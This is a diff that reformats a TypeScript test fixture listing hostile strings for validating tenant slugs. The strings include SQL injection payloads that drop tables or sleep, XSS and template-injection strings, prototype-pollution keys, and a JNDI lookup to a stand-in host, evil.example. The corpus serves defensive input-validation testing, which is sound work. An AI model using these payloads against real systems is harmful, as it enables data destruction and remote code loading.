@@ -40,7 +40,7 @@ const entries: readonly (readonly [HostileFamily, readonly string[]])[] = [
       "' or 1=1 --",
       '" or ""="',
       "admin'--",
-      "1; drop table tenantry.tenants; --",
+      '1; drop table tenantry.tenants; --',
       "x'); drop table posts; --",
       "'; select pg_sleep(5); --",
       "' union select id, slug from tenantry.tenants --",
@@ -58,22 +58,11 @@ const entries: readonly (readonly [HostileFamily, readonly string[]])[] = [
       "\\'; drop table x; --",
     ],
   ],
-  ['quote', ["'", '"', '`', "''", '""', "acme'", 'acme"', '"acme"', "\\'", '\\"', "‘acme’", '“acme”']],
+  ['quote', ["'", '"', '`', "''", '""', "acme'", 'acme"', '"acme"', "\\'", '\\"', '‘acme’', '“acme”']],
   ['comment', ['--', '/*', '*/', '/* comment */acme', 'acme--', 'acme/*', '#acme', '-- -', ';', ';;', 'acme;', '; select 1']],
   [
     'control',
-    [
-      'acme\u0000',
-      '\u0000',
-      'ac\u0000me',
-      'acme\u0007',
-      'acme\u001b[31m',
-      'acme\u007f',
-      'acme\t',
-      '\tacme',
-      'acme\u0085',
-      'acme\b',
-    ],
+    ['acme\u0000', '\u0000', 'ac\u0000me', 'acme\u0007', 'acme\u001b[31m', 'acme\u007f', 'acme\t', '\tacme', 'acme\u0085', 'acme\b'],
   ],
   [
     'unicode',
@@ -140,25 +129,108 @@ const entries: readonly (readonly [HostileFamily, readonly string[]])[] = [
   ],
   [
     'object-key',
-    ['__proto__', 'Constructor', '__proto__.polluted', '__proto__[admin]', 'constructor[prototype]', '{"__proto__":{"admin":true}}', 'hasOwnProperty', 'toString', 'valueOf'],
+    [
+      '__proto__',
+      'Constructor',
+      '__proto__.polluted',
+      '__proto__[admin]',
+      'constructor[prototype]',
+      '{"__proto__":{"admin":true}}',
+      'hasOwnProperty',
+      'toString',
+      'valueOf',
+    ],
   ],
-  ['template', ['${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '${jndi:ldap://evil.example/a}', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', "javascript:alert('x')", '{{constructor.constructor("return process")()}}']],
+  [
+    'template',
+    [
+      '${7*7}',
+      '{{7*7}}',
+      '#{7*7}',
+      '<%= 7*7 %>',
+      '${jndi:ldap://evil.example/a}',
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      "javascript:alert('x')",
+      '{{constructor.constructor("return process")()}}',
+    ],
+  ],
   ['format', ['%s', '%s%s%s%s%s', '%d', '%n', '%x%x%x', '%1$s', '{0}', '%00', '%']],
-  ['number', ['0', '-1', '1e309', 'NaN', 'Infinity', '-0', '0x41', '9223372036854775808', '1.7976931348623157e+308', '00000000-0000-0000-0000-00000000000g', '{00000000-0000-0000-0000-000000000000}', '00000000000000000000000000000000', 'NULL', 'None', 'undefined()']],
-  ['length', [`a${'b'.repeat(63)}`, `a${'-b'.repeat(40)}`, 'x'.repeat(256), 'y'.repeat(4096), 'z'.repeat(10_000), `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.com`]],
+  [
+    'number',
+    [
+      '0',
+      '-1',
+      '1e309',
+      'NaN',
+      'Infinity',
+      '-0',
+      '0x41',
+      '9223372036854775808',
+      '1.7976931348623157e+308',
+      '00000000-0000-0000-0000-00000000000g',
+      '{00000000-0000-0000-0000-000000000000}',
+      '00000000000000000000000000000000',
+      'NULL',
+      'None',
+      'undefined()',
+    ],
+  ],
+  [
+    'length',
+    [
+      `a${'b'.repeat(63)}`,
+      `a${'-b'.repeat(40)}`,
+      'x'.repeat(256),
+      'y'.repeat(4096),
+      'z'.repeat(10_000),
+      `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.com`,
+    ],
+  ],
   ['blank', ['', ' ', '   ', '\u00a0', '\u3000', '\n', ' \t ']],
-  ['identifier', ['pg_catalog', 'pg-catalog', 'pg_temp', 'information_schema', '"tenantry"."tenants"', 'public."posts"', 'Acme', 'ACME', '1acme', '-acme', 'acme-', '_acme', 'ac_me', 'ac--me', 'a', 'ab', 'acme.', '.acme']],
+  [
+    'identifier',
+    [
+      'pg_catalog',
+      'pg-catalog',
+      'pg_temp',
+      'information_schema',
+      '"tenantry"."tenants"',
+      'public."posts"',
+      'Acme',
+      'ACME',
+      '1acme',
+      '-acme',
+      'acme-',
+      '_acme',
+      'ac_me',
+      'ac--me',
+      'a',
+      'ab',
+      'acme.',
+      '.acme',
+    ],
+  ],
 ];
 
 /** The corpus with each string's family. */
-export const HOSTILE_STRING_CASES: readonly HostileString[] = Object.freeze(entries.flatMap(([family, values]) => values.map((value) => Object.freeze({ family, value }))));
+export const HOSTILE_STRING_CASES: readonly HostileString[] = Object.freeze(
+  entries.flatMap(([family, values]) => values.map((value) => Object.freeze({ family, value }))),
+);
 
 /**
  * Valid slugs that are also names of `Object.prototype` members: a service that keeps tenants
  * in plain objects mixes them up with inherited properties. Each should work as an ordinary
  * tenant (not a rejection test: they are valid).
  */
-export const PROTOTYPE_KEY_SLUGS: readonly string[] = Object.freeze(['constructor', 'prototype', 'tostring', 'valueof', 'hasownproperty', 'proto']);
+export const PROTOTYPE_KEY_SLUGS: readonly string[] = Object.freeze([
+  'constructor',
+  'prototype',
+  'tostring',
+  'valueof',
+  'hasownproperty',
+  'proto',
+]);
 
 /** The hostile strings (≥ 100). */
 export const HOSTILE_STRINGS: readonly string[] = Object.freeze(HOSTILE_STRING_CASES.map((c) => c.value));
